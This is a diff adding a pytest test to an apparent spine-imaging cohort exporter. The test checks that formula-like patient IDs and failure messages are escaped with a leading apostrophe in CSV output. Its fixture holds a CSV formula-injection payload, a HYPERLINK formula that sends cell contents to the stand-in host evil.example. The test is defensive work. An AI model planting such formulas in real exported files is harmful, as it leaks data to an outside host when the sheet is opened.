@@ -67,3 +67,28 @@ def test_series_without_outcome_is_an_error(tmp_path):
     with pytest.raises(SpineIdcError, match="neither measurements nor a failure"):
         write_cohort(tmp_path / "m.tsv", tmp_path / "a.parquet", tmp_path / "a.csv",
                      tmp_path / "f.csv", root=tmp_path)
+
+
+def test_csv_cells_cannot_be_formulas(tmp_path):
+    """A PatientID (or a failure message) from the data that starts like a formula is written
+    to the CSV copies with a leading apostrophe; the parquet keeps the value."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    ok, bad = "1.2.3.1", "1.2.3.2"
+    rows = [ManifestRow(k, k, "1.2.3", formula, "CT", "", 20, "local", "x.files") for k in (ok, bad)]
+    write_manifest(rows, tmp_path / "m.tsv")
+    measured = layout.path("measure", ok, tmp_path)
+    measured.parent.mkdir(parents=True)
+    measured.write_text(json.dumps({"series_key": ok, "measurements": [_measurement("L1", 20)],
+                                    "qc": {"confidence": 0.9}}))
+    err = InvalidSeriesError(bad, "no-spine", "-1+1 vertebrae @ nowhere")
+    write_failure(layout.path("segment", bad, tmp_path), Failure.from_error("segment", err))
+    out = tmp_path / "cohort"
+    write_cohort(tmp_path / "m.tsv", out / "m.parquet", out / "m.csv", out / "f.csv",
+                 root=tmp_path)
+    table = pd.read_csv(out / "m.csv", dtype=str)
+    assert table["patient_id"].iloc[0] == "'" + formula
+    assert table["volume_ml"].iloc[0] == "30.0"  # numbers untouched
+    fails = pd.read_csv(out / "f.csv", dtype=str)
+    assert fails["patient_id"].iloc[0] == "'" + formula
+    assert fails["message"].iloc[0] == "'-1+1 vertebrae @ nowhere"
+    assert pd.read_parquet(out / "m.parquet")["patient_id"].iloc[0] == formula
